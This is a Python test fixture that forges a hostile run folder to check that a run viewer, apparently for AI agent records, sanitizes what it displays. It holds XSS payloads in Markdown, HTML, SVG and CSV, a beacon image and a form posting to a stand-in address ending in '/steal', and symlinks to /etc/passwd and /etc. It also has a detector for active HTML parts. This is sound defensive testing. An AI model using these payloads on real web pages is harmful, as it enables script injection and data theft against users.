"""A forged run folder, as anyone could leave one in runs/: a record whose texts and a report whose
Markdown try script, event handlers, javascript: links, remote images and forms; files whose
names and contents lie about what they are; a link out of the folder."""

from __future__ import annotations

import base64
import json
from html.parser import HTMLParser
from pathlib import Path

CANARY = "coderoom-web-canary"
HOSTILE_MARKDOWN = f"""# Report {CANARY}

<script>window.{CANARY.replace('-', '_')} = 1; document.title = 'pwned'</script>

<img src=x onerror="document.title='pwned'"> and <a href="#" onclick="document.title='pwned'">click</a>

[a javascript link](javascript:document.title='pwned') [a data link](data:text/html,<script>alert(1)</script>)
[a fine link](https://example.invalid/ok)

![remote image](http://203.0.113.9/beacon.png)

<form action="http://203.0.113.9/steal"><input name=x></form>

<iframe src="javascript:alert(1)"></iframe>

| col | value |
|-----|-------|
| <b onmouseover=alert(1)>x</b> | 1 |
"""
HOSTILE_TEXT = f"<script>document.title='pwned'</script><img src=x onerror=alert(1)> {CANARY}"
# a 1x1 PNG
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def forge_run(runs_dir: Path, name: str = "forged-run") -> Path:
    run = runs_dir / name
    (run / "output").mkdir(parents=True)
    (run / "output" / "report.md").write_text(HOSTILE_MARKDOWN)
    (run / "output" / "page.html").write_text(f"<html><script>alert(1)</script>{CANARY}</html>")
    (run / "output" / "drawing.svg").write_bytes(SVG)
    (run / "output" / "table.csv").write_text(f'name,note\n"{HOSTILE_TEXT}",2\n' + "x,y\n" * 500)
    (run / "output" / "not-an-image.png").write_bytes(b"<html><script>alert(1)</script></html>")
    (run / "output" / "picture.txt").write_bytes(PNG)
    (run / "output" / "passwd").symlink_to("/etc/passwd")
    (run / "output" / "outside").symlink_to("/etc", target_is_directory=True)
    job = {"name": "forged", "prompt": HOSTILE_TEXT, "inputs": {}, "outputs": []}
    events = [
        {"type": "run_start", "t": 0, "record_version": 2, "job": job, "model": HOSTILE_TEXT},
        {"type": "model_start", "t": 0.1, "turn": 1},
        {"type": "model_call", "t": 0.2, "turn": 1, "output": [{"kind": "message", "text": HOSTILE_MARKDOWN},
                                                               {"kind": "message", "text": HOSTILE_TEXT}]},
        {"type": "tool_start", "t": 0.3, "call_id": "c1", "name": HOSTILE_TEXT, "arguments": {"cmd": HOSTILE_TEXT}},
        {"type": "tool_result", "t": 0.4, "call_id": "c1", "name": "exec_command", "arguments": {"cmd": "x"},
         "output": HOSTILE_TEXT + "\n[coderoom: stopped by the memory limit]"},
        {"type": "run_end", "t": 0.5, "status": "ok", "final_output": HOSTILE_TEXT, "error": HOSTILE_TEXT,
         "limits_hit": [HOSTILE_TEXT]},
    ]  # fmt: skip
    (run / "run.jsonl").write_text("".join(json.dumps(e) + "\n" for e in events))
    return run


ACTIVE_TAGS = {"script", "style", "img", "form", "iframe", "object", "embed", "svg", "link", "meta", "base", "input"}


def active_parts(html: str) -> list[str]:
    """Whatever in `html` could run, load or send something: active tags, event-handler
    attributes, and URLs that are not http, https or mailto."""
    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ACTIVE_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                    found.append(f"{tag} {name}")
                if name in ("href", "src", "action") and not (value or "").startswith(("http://", "https://", "mailto:")):
                    found.append(f"{tag} {name}={value}")

    Finder().feed(html)
    return found
